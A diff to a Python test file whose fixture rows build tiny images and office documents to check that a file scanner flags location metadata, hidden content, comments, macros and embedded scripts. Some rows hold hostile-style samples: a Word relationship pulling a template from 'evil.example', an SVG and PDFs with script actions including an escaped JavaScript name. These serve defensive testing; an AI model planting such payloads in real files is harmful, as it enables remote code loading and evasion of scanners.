@@ -30,8 +30,8 @@ def _png(width: int, height: int, more: bytes = b"") -> bytes:
     return b"\x89PNG\r\n\x1a\n" + header + more + pixels + _chunk(b"IEND", b"")
 
 
-def _jpeg(width: int, height: int, exif: bytes = b"") -> bytes:
-    camera = b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif if exif else b""
+def _jpeg(width: int, height: int, *blocks: bytes) -> bytes:
+    camera = b"".join(b"\xff\xe1" + struct.pack(">H", len(block) + 2) + block for block in blocks)
     frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
     return b"\xff\xd8" + camera + frame + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\x00\xff\xd9"
 
@@ -86,6 +86,8 @@ _RELS = (
     b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" '
     b'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
 )
+_OLDER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
+_XMP = b'<x exif:GPSLatitude="21,1.5N"/>'
 _LFS = b"version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 9\n"
 
 ROWS: tuple[Row, ...] = (
@@ -107,6 +109,17 @@ ROWS: tuple[Row, ...] = (
     _shown("69 a photo that tells its place", "a.jpg", _jpeg(8, 8, _exif(0x8825)), "F115"),
     _shown("69 a photo with its camera only", "a.jpg", _jpeg(8, 8, _exif(0x010F))),
     _shown("69 a PNG that tells its place", "a.png", _png(8, 8, _chunk(b"eXIf", _exif(0x8825)[6:])), "F115"),
+    _shown(
+        "69 the place in a JPEG's other block", "a.jpg", _jpeg(8, 8, _exif(0x8825), _exif(0x010F)), "F115"
+    ),
+    _shown("69 a JPEG that tells its place to editors", "a.jpg", _jpeg(8, 8, _XMP), "F115"),
+    _shown("69 a PNG that tells its place to editors", "a.png", _png(8, 8, _chunk(b"iTXt", _XMP)), "F115"),
+    _shown(
+        "69 a PNG's place behind a word",
+        "a.png",
+        _png(8, 8, _chunk(b"tEXt", b"eXIf") + _chunk(b"eXIf", _exif(0x8825)[6:])),
+        "F115",
+    ),
     _attached("71 an SVG", "a.svg", b"<svg><script>alert(1)</script></svg>", "F108"),
     _attached(
         "72 a document that unfolds too large", "a.docx", _docx(word__a_dot_bin=bytes(30 * 2**20)), "F116"
@@ -122,6 +135,8 @@ ROWS: tuple[Row, ...] = (
     _attached(
         "25 links to other workbooks", "a.xlsx", _zip({"xl/externalLinks/externalLink1.xml": b"x"}), "F117"
     ),
+    _attached("73 macros of the older Word", "a.doc", _OLDER + "_VBA_PROJECT".encode("utf-16-le"), "F117"),
+    _attached("73 a file of the older Word", "a.doc", _OLDER),
     _attached("73 a macro file by name", "a.docm", b"PK\x03\x04", "F108"),
     _attached(
         "73 a template from elsewhere", "a.docx", _docx(word___rels__settings_dot_xml_dot_rels=_RELS), "F117"
@@ -130,6 +145,40 @@ ROWS: tuple[Row, ...] = (
     _attached("74 comments", "a.docx", _docx(word__comments_dot_xml=f"<w:t>{SECRET}</w:t>".encode()), "F118"),
     _attached("74 tracked changes", "a.docx", _docx(f'<w:ins w:id="1"><w:t>{SECRET}</w:t></w:ins>'), "F118"),
     _attached("74 hidden text", "a.docx", _docx(f"<w:rPr><w:vanish/></w:rPr><w:t>{SECRET}</w:t>"), "F118"),
+    _attached(
+        "74 comments of newer kinds", "a.pptx", _zip({"ppt/comments/modernComment_1.xml": b"x"}), "F118"
+    ),
+    _attached("74 a comment beside the text", "a.odt", _zip({"content.xml": b"<office:annotation>"}), "F118"),
+    _attached(
+        "74 hidden text in a footnote", "a.docx", _docx(word__footnotes_dot_xml=b"<w:vanish/>"), "F118"
+    ),
+    _attached(
+        "74 hidden text of a style", "a.odt", _zip({"content.xml": b'<s text:display="none"/>'}), "F118"
+    ),
+    _attached(
+        "74 a hidden sheet",
+        "a.xlsx",
+        _zip({"xl/workbook.xml": b'<sheet name="a" state="veryHidden"/>'}),
+        "F118",
+    ),
+    _attached(
+        "74 a hidden column",
+        "a.xlsx",
+        _zip({"xl/worksheets/sheet1.xml": b'<col min="5" hidden="1"/>'}),
+        "F118",
+    ),
+    _attached(
+        "74 what is not hidden", "a.xlsx", _zip({"xl/worksheets/sheet1.xml": b'<col min="5" hidden="0"/>'})
+    ),
+    _attached(
+        "74 a hidden slide", "a.pptx", _zip({"ppt/slides/slide2.xml": b'<p:sld a="b" show="0">'}), "F118"
+    ),
+    _attached(
+        "93 a class list in cells of their own",
+        "a.xlsx",
+        _zip({"xl/worksheets/sheet1.xml": b"<t>0912000001</t><t>0912000002</t><t>0912000003</t>"}),
+        "F119",
+    ),
     _attached("75 a PDF with a program", "a.pdf", _pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "F117"),
     _attached("75 a program under an escaped name", "a.pdf", _pdf(b"<< /S /J#61vaScript >>"), "F117"),
     _attached(
